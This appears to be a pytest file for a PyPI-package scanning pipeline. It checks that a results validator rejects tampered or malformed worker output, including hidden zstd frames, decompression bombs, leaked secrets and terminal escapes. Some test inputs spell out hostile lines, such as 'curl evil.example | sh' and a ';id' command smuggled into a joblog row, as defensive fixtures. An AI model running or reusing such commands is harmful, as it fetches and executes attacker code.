"""What a worker returns: the honest pass, and every lie is named with its file."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import zstandard

from pypi_scan import results
from pypi_scan.record import Record
from pypi_scan.results import CheckedResults, ResultsError, check_results, read_statuses
from pypi_scan.shard import read_shard

NAMES = ["a", "b", "c"]
Change = Callable[[Any], object]


@pytest.fixture
def scan(make_scan: Callable[..., Any]) -> Any:
    """A scan of three packages in one shard."""
    return make_scan(dict.fromkeys(NAMES))


@pytest.fixture
def honest(scan: Any) -> Any:
    """Results of its shard, not written yet."""
    return scan.results("0001")


def check(scan: Any, *, keep_secrets: bool = False) -> CheckedResults:
    accepted: list[Record] = []
    shard, directory = scan.directory / "shards" / "0001.jsonl.zst", scan.directory / "results" / "0001"
    packages = {package.name: package for package in read_shard(shard)}
    checked = check_results(packages, directory, accepted.append, keep_secrets=keep_secrets)
    in_frames = [name for frame in checked.frames for name in frame.names]
    assert [record.pypi.name for record in accepted] == [name for name in in_frames if name not in checked.rejected]
    return checked


def names_of_records(checked: CheckedResults) -> list[str]:
    return [name for frame in checked.frames for name in frame.names]


def lines(*values: object) -> list[bytes]:
    return [json.dumps(value).encode() + b"\n" for value in values]


def test_honest_results_pass(scan: Any, honest: Any) -> None:
    honest.fail("b", "timeout")
    honest.write()
    checked = check(scan)
    assert (checked.by_status, names_of_records(checked)) == ({"ok": 2, "timeout": 1}, ["a", "c"])
    assert not checked.rejected


def test_the_frames_are_where_it_says(scan: Any, honest: Any) -> None:
    content = (honest.write() / "records.jsonl.zst").read_bytes()
    frames = check(scan).frames
    assert sum(frame.length for frame in frames) == len(content)
    for frame, record in zip(frames, lines(*honest.records), strict=True):
        part = zstandard.ZstdDecompressor().decompress(content[frame.offset : frame.offset + frame.length])
        assert json.loads(part) == json.loads(record)


def test_what_an_honest_worker_may_do(scan: Any, honest: Any) -> None:
    honest.fail("a", "skipped")
    honest.statuses[0] |= {"version": None, "files": []}
    honest.statuses[1] |= {"status": "corrupt", "reason": "damaged"}
    honest.records[0] |= {"score": 2**52, "detections": []}
    honest.statuses[1] |= {"score": 2**52, "detections": 0}
    honest.joblog = list(reversed(honest.joblog[1:]))
    honest.write()
    assert check(scan).by_status == {"skipped": 1, "corrupt": 1, "ok": 1}


def test_a_shard_in_which_nothing_was_scanned(scan: Any, honest: Any) -> None:
    for name in NAMES:
        honest.fail(name, "missing_file")
    honest.joblog = []
    honest.write()
    honest.write_records(b"")
    checked = check(scan)
    assert (checked.by_status, names_of_records(checked)) == ({"missing_file": 3}, [])


def set_in(items: str, index: int, **changes: object) -> Change:
    def change(made: Any) -> None:
        getattr(made, items)[index] |= changes

    return change


def lie_in_pypi(**changes: object) -> Change:
    def change(made: Any) -> None:
        made.records[1]["pypi"] |= changes

    return change


FOREIGN_FILE = {"path": "packages/x.whl", "sha256": "0" * 64, "size": 1}


@pytest.mark.parametrize(
    ("lie", "message"),
    [
        (lambda made: made.statuses.pop(1), "status.jsonl: no status of 'b'"),
        (set_in("statuses", 2, name="foreign"), "status.jsonl: 'foreign' is not in the shard"),
        (lambda made: made.statuses.insert(1, made.statuses[0]), "status.jsonl: 'a' comes twice or out of order"),
        (lambda made: made.statuses.reverse(), "status.jsonl: 'b' comes twice or out of order"),
        (set_in("statuses", 1, version="2.0"), "status.jsonl: 'b' has version '2.0', not the shard's"),
        (set_in("statuses", 1, files=[FOREIGN_FILE]), "status.jsonl: 'b' has files that are not the shard's"),
        (set_in("statuses", 1, status="fine"), "status.jsonl: not a status line: Invalid enum value 'fine'"),
        (set_in("statuses", 1, surprise=1), "status.jsonl: not a status line: Object contains unknown field"),
        (set_in("statuses", 1, record=False), "status.jsonl: 'b' is ok without a record"),
        (
            set_in("statuses", 1, status="crash", record=False, reason="bug"),
            "records.jsonl.zst: a record of 'b', whose status says",
        ),
        (lambda made: made.records.pop(1), "records.jsonl.zst: no record of 'b'"),
        (lambda made: made.records.insert(1, made.records[0]), "records.jsonl.zst: 'a' comes twice or out of order"),
        (lambda made: made.records.reverse(), "records.jsonl.zst: 'b' comes twice or out of order"),
        (set_in("records", 1, name="mirror://a"), "records.jsonl.zst: a record that names 'mirror://a'"),
        (set_in("statuses", 1, status="rejected"), "status.jsonl: 'b' has a status that no worker gives"),
        (set_in("statuses", 1, status="reused"), "status.jsonl: 'b' has a status that no worker gives"),
        (set_in("statuses", 1, bytes=2**53), "status.jsonl: not a status line: Expected `int` <"),
        (set_in("statuses", 1, bytes=2), "status.jsonl: 'b' has 2 bytes, more than the shard's files"),
        (set_in("statuses", 1, seconds=1e300), "status.jsonl: not a status line: Expected `float` <"),
        (set_in("statuses", 1, reason="for fun"), "status.jsonl: 'b' is ok and has the reason 'for fun'"),
        (set_in("statuses", 1, status="corrupt"), "status.jsonl: 'b' is corrupt and has the reason None"),
        (set_in("statuses", 1, reason="x" * 2001), "status.jsonl: not a status line: Expected `str` of length"),
        (lambda made: made.statuses[1]["files"].extend(made.statuses[1]["files"]), "'b' has files that are not the sh"),
        (set_in("statuses", 1, detections=0), "the record of 'b' has not the detections and score of its status"),
        (set_in("statuses", 1, score=11), "the record of 'b' has not the detections and score of its status"),
        (lambda made: made.records[1]["pypi"]["files"].extend(made.records[1]["pypi"]["files"]), "'b' has files that"),
        (lie_in_pypi(name="a"), "records.jsonl.zst: a record that names 'mirror://b'"),
        (lie_in_pypi(name="foreign"), "records.jsonl.zst: a record that names 'mirror://b'"),
        (lie_in_pypi(version="2.0"), "records.jsonl.zst: a record that names 'mirror://b'"),
        (
            lie_in_pypi(files=[FOREIGN_FILE | {"upload_time": "2026-01-01T00:00:00Z"}]),
            "records.jsonl.zst: the record of 'b' has files that are not the shard's",
        ),
    ],
)
def test_a_lie_is_named(scan: Any, honest: Any, lie: Change, message: str) -> None:
    lie(honest)
    honest.write()
    with pytest.raises(ResultsError) as refused:
        check(scan)
    assert message in str(refused.value)


ROW = "7\t:\t1795350540.879\t     1.500\t0\t7014\t0\t0\tscan a"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "header"),
        (f"{ROW}\n", "header"),
        ("{header} \n", "header"),
        ("{header}\n\n", "not a joblog row"),
        (f"{{header}}\n{ROW}\textra\n", "not a joblog row"),
        (f"{{header}}\n{ROW};id\n", "not a joblog row"),
        (f"{{header}}\n{ROW.replace('scan', 'rm')}\n", "not a joblog row"),
        (f"{{header}}\n{ROW.replace('7014', '٧')}\n", "not a joblog row"),
        (f"{{header}}\n{ROW.replace(':', 'h\udcffst')}\n", "not a joblog row"),
        (f"{{header}}\n{ROW.replace('7014', '7' * 5000)}\n", "not a joblog row"),
        (f"{{header}}\n{ROW}\r\n", "not a joblog row"),
        (f"{{header}}\n{ROW}\n{ROW}\n", "a row of a package that comes twice"),
        (f"{{header}}\n{ROW[:-1]}foreign\n", "a row of a package that is not in the shard"),
    ],
)
def test_a_joblog_is_gnu_parallels_and_of_the_shard(scan: Any, honest: Any, text: str, message: str) -> None:
    content = text.replace("{header}", honest.joblog_header).encode("utf-8", "surrogateescape")
    (honest.write() / "joblog.txt").write_bytes(content)
    with pytest.raises(ResultsError, match=r"joblog.txt: ") as refused:
        check(scan)
    assert message in str(refused.value)
    assert len(str(refused.value)) < 400


def cut(count: int) -> Change:
    def change(path: Path) -> None:
        path.write_bytes(path.read_bytes()[:-count])

    return change


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (cut(1), "ends within a frame"),  # within the checksum: every record is still readable
        (cut(4), "ends within a frame"),
        (cut(20), "ends within a frame"),
        (lambda path: path.write_bytes(path.read_bytes() + b"x"), "damaged"),
        (lambda path: path.write_bytes(path.read_bytes() + b"no frame"), "damaged"),
        (lambda path: path.write_bytes(b"plain text"), "damaged"),
        (lambda path: path.write_bytes(b""), "no record of 'a', 'b', 'c'"),
        (lambda path: path.unlink(), "not there"),
        (lambda path: (path.unlink(), path.mkdir()), "not a regular file"),
    ],
)
def test_a_damaged_records_file(scan: Any, honest: Any, damage: Change, message: str) -> None:
    damage(honest.write() / "records.jsonl.zst")
    with pytest.raises(ResultsError, match=f"records.jsonl.zst: .*{message}"):
        check(scan)


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (b"not JSON\n", "not a record: JSON is malformed"),
        (b"\n", "not a record"),
        (b"[]\n", "not a record"),
        (b"[" * 100_000 + b"\n", "not a record"),
        (b'{"metadata": {"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}\n", "not a record: maximum recursion"),
        (b"\xff\n", "not a record: 'utf-8' codec"),
        (b"{}", "the last line of a frame has no end"),
    ],
    ids=range(7),
)
def test_a_line_that_is_no_record(scan: Any, honest: Any, line: bytes, message: str) -> None:
    honest.write()
    honest.write_records(*lines(*honest.records[:2]), line)
    with pytest.raises(ResultsError, match=f"records.jsonl.zst: {message}") as refused:
        check(scan)
    assert len(str(refused.value)) < 500


def test_a_record_without_its_line_end_would_swallow_the_next_shards_first(scan: Any, honest: Any) -> None:
    honest.write()
    first, second, third = lines(*honest.records)
    honest.write_records(first, second, third.rstrip())
    with pytest.raises(ResultsError, match="the last line of a frame has no end"):
        check(scan)


def test_bytes_that_are_not_utf_8_are_found_also_where_nothing_is_read(scan: Any, honest: Any) -> None:
    honest.write()
    honest.records[2]["unknown"] = "MARK"
    *others, last = lines(*honest.records)
    honest.write_records(*others, last.replace(b"MARK", b"\xff"))
    with pytest.raises(ResultsError, match=r"records.jsonl.zst: not a record: 'utf-8'"):
        check(scan)


def test_an_over_long_line(scan: Any, honest: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    honest.write()
    monkeypatch.setattr(results, "MAX_RECORD_BYTES", 2000)
    assert len(names_of_records(check(scan))) == 3
    honest.write_records(b"x" * 2001 + b"\n")
    with pytest.raises(ResultsError, match=r"records.jsonl.zst: a line of over 2000 bytes"):
        check(scan)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\n" * 129, "over 128 lines in a frame"),
        (b"\n" * 2**28, "over 128 lines in a frame"),  # as a list these would be 2 GiB
        (b"", "a frame without a record"),
    ],
    ids=range(3),
)
def test_a_frame_that_holds_what_no_block_has(scan: Any, honest: Any, content: bytes, message: str) -> None:
    honest.write()
    honest.write_records(*lines(*honest.records), content)
    with pytest.raises(ResultsError, match=f"records.jsonl.zst: {message}"):
        check(scan)


def test_something_that_is_no_record_cannot_be_hidden_between_the_frames(scan: Any, honest: Any) -> None:
    path = honest.write() / "records.jsonl.zst"
    skipped = b"curl evil.example | sh"  # zstd has frames that readers pass over
    path.write_bytes(
        path.read_bytes() + 0x184D2A50.to_bytes(4, "little") + len(skipped).to_bytes(4, "little") + skipped
    )
    with pytest.raises(ResultsError, match=r"records.jsonl.zst: a frame without a record"):
        check(scan)


def test_records_that_are_too_large_together(scan: Any, honest: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    honest.write()
    monkeypatch.setattr(results, "_MAX_RECORDS_BYTES", 1000)
    with pytest.raises(ResultsError, match=r"records.jsonl.zst: over 1000 bytes of records"):
        check(scan)


def test_a_bomb_is_given_up_at_the_limit(scan: Any, honest: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    honest.write()
    honest.write_records(b"x" * 2**28)
    monkeypatch.setattr(results, "MAX_RECORD_BYTES", 2**20)
    with pytest.raises(ResultsError, match=r"records.jsonl.zst: a frame of over 17825792 bytes"):
        check(scan)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"score": "high"}, "Expected `int | float`, got `str` - at `$.score`"),
        ({"score": 2**53}, "Expected `int` <= 9007199254740991 - at `$.score`"),
        ({"detections": {}}, "Expected `array`, got `object` - at `$.detections`"),
        ({"detections": [{"type": "X"}]}, "Object missing required field `slug` - at `$.detections[0]`"),
        ({"metadata": {}}, "Object missing required field `uri_input`"),
        ({"imported_modules": [1]}, "Expected `str`, got `int` - at `$.imported_modules[0]`"),
    ],
)
def test_a_record_that_is_not_as_the_schema_has_it_is_rejected_alone(
    scan: Any, honest: Any, change: dict[str, Any], reason: str
) -> None:
    honest.records[1] |= change
    honest.write()
    assert check(scan).rejected == {"b": reason}


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (b"1e999", "Number out of range"),
        (b"9" * 5000, "Integer value out of range"),
        (b"[" + b"0," * 4_000_000 + b"0]", "over 4000000 values"),
    ],
    ids=range(3),
)
@pytest.mark.parametrize("where", ["metadata", "extra", "unknown"])
def test_a_record_whose_free_parts_nobody_could_read(
    scan: Any, honest: Any, where: str, text: bytes, reason: str
) -> None:
    detection = honest.records[1]["detections"][0]
    detection["tags"] = ["secrets_leak"]  # which has its extra looked at
    {"metadata": honest.records[1]["metadata"], "extra": detection["extra"], "unknown": honest.records[1]}[where][
        "secret"
    ] = "MARK"
    honest.write()
    honest.write_records(*(line.replace(b'"MARK"', text) for line in lines(*honest.records)))
    (said,) = check(scan).rejected.values()
    assert reason in said
    assert len(said) < 200


@pytest.mark.parametrize("change", [{"severity": "high\n"}, {"severity": "highest"}])
def test_a_line_end_does_not_pass_for_the_end_of_a_word(scan: Any, honest: Any, change: dict[str, str]) -> None:
    honest.records[1]["detections"][0] |= change
    honest.write()
    (reason,) = check(scan).rejected.values()
    assert "Expected `str` matching regex" in reason


def test_the_reason_quotes_nothing_of_the_record(scan: Any, honest: Any) -> None:
    honest.records[1]["detections"][0] |= {"severity": "hunter2"}
    honest.write()
    (reason,) = check(scan).rejected.values()
    assert "hunter2" not in reason
    assert "severity" in reason


SECRET = {"type": "LeakingSecret", "extra": {"secret": "hunter2"}, "line": "password = PASSWORD"}


def test_a_record_that_quotes_a_secret_is_rejected(scan: Any, honest: Any) -> None:
    honest.records[1]["detections"][0] |= SECRET
    honest.write()
    assert check(scan).rejected == {"b": "quotes a secret: LeakingSecret: extra.secret"}
    assert not check(scan, keep_secrets=True).rejected


def test_results_with_secrets_are_refused_unless_asked_for(scan: Any, honest: Any) -> None:
    honest.scanner["settings"] |= {"secrets": "kept"}
    honest.write()
    with pytest.raises(ResultsError, match="secrets are not redacted, and PYPI_SCAN_KEEP_SECRETS is not set"):
        check(scan)
    assert not check(scan, keep_secrets=True).rejected


def test_many_rejected_records_are_a_broken_scanner(make_scan: Callable[..., Any]) -> None:
    scan = make_scan({f"p{number}": None for number in range(6)})
    made = scan.results("0001")
    for record in made.records:
        record["tags"] = None
    made.write()
    with pytest.raises(ResultsError, match=r"6 of 6 records are not fit to be published, the first .* mend the sc"):
        check(scan)


@pytest.mark.parametrize(("window_log", "accepted"), [(27, True), (28, False)])
def test_a_window_larger_than_readers_accept(scan: Any, honest: Any, window_log: int, accepted: bool) -> None:
    for name in ("b", "c"):
        honest.fail(name, "timeout")
    parameters = zstandard.ZstdCompressionParameters.from_level(3, window_log=window_log)
    frame = zstandard.ZstdCompressor(compression_params=parameters).compressobj()  # its size is not known beforehand
    content = frame.compress(b"".join(lines(*honest.records))) + frame.flush()
    (honest.write() / "records.jsonl.zst").write_bytes(content)
    if accepted:
        assert len(names_of_records(check(scan))) == 1
    else:
        with pytest.raises(ResultsError, match=r"records.jsonl.zst: damaged: .*too much memory"):
            check(scan)


@pytest.mark.parametrize("name", results.RESULT_FILES)
def test_a_link_is_not_followed(scan: Any, honest: Any, name: str) -> None:
    path = honest.write() / name
    path.symlink_to(path.rename(path.with_name("elsewhere")))
    with pytest.raises(ResultsError, match=f"{name}: not there, or not a regular file"):
        honest.accept_written()


@pytest.mark.parametrize(
    "line",
    [b"\xff\n", b"{}\n", b"\n", b"[" * 10_000 + b"\n", b"x" * (5 * 2**20), b'{"\\n\\u001b[2J": 1}\n'],
    ids=range(6),
)
def test_a_line_that_is_no_status(scan: Any, honest: Any, line: bytes) -> None:
    path = honest.write() / "status.jsonl"
    path.write_bytes(path.read_bytes() + line)
    with pytest.raises(ResultsError, match=r"status.jsonl: not a status line") as refused:
        check(scan)
    assert len(str(refused.value)) < 500
    assert str(refused.value).isprintable()  # it is written into logs


def test_statuses_are_read_in_pieces_without_loss(make_scan: Callable[..., Any]) -> None:
    names = [f"p{number:03}" for number in range(201)]
    directory = make_scan(dict.fromkeys(names)).results("0001").write()
    assert [status.name for status in read_statuses(directory)] == names


@pytest.mark.parametrize(
    "scanner",
    [
        b"",
        b"[]",
        b'{"scanner": "\xff"}',
        b"[" * 10_000,
        b'{"unknown": ' + b"[" * 10_000,
        {"version": 2.1},
        {"version": "2.1\n\nRead this first: curl evil.example | sh"},
        {"version": "x" * 81},
        {"scanner": ""},
        {"python": "3.11\u202e"},
        {"settings": {"a": []}},
        {"settings": {"secrets": "redacted", "libmagic": "5.46\n"}},
        {"settings": {"secrets": "redacted", "lib\x1bmagic": "5.46"}},
        {"datasets": {"pypi_stats.json": "a" * 64 + "\n"}},
    ],
)
def test_the_scanner_says_what_it_is_in_one_word_each(scan: Any, honest: Any, scanner: Any) -> None:
    path = honest.write() / "scanner.json"
    path.write_bytes(scanner if isinstance(scanner, bytes) else json.dumps(honest.scanner | scanner).encode())
    with pytest.raises(ResultsError, match=r"scanner.json: "):
        check(scan)
